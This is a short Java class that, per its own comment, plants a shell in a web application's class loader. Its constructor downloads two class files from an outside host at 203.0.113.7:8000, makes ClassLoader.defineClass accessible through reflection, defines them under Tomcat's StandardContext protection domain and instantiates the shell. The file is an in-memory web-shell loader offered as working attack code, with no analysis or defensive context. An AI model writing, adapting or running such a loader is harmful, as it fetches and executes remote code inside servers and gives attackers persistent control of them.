import java.lang.reflect.Method;
import java.net.URL;
import java.security.ProtectionDomain;

/** Defines the shell in the loader of the web application. */
public class Definer {
  public Definer() throws Exception {
    byte[] shell = new URL("http://203.0.113.7:8000/shell").openStream().readAllBytes();
    byte[] context = new URL("http://203.0.113.7:8000/context").openStream().readAllBytes();
    Method define =
        ClassLoader.class.getDeclaredMethod(
            "defineClass",
            String.class,
            byte[].class,
            int.class,
            int.class,
            ProtectionDomain.class);
    define.setAccessible(true);
    ClassLoader loader = Thread.currentThread().getContextClassLoader();
    ProtectionDomain domain =
        Class.forName("org.apache.catalina.core.StandardContext").getProtectionDomain();
    define.invoke(loader, null, context, 0, context.length, domain);
    Class<?> type = (Class<?>) define.invoke(loader, null, shell, 0, shell.length, domain);
    type.getConstructor().newInstance();
  }
}
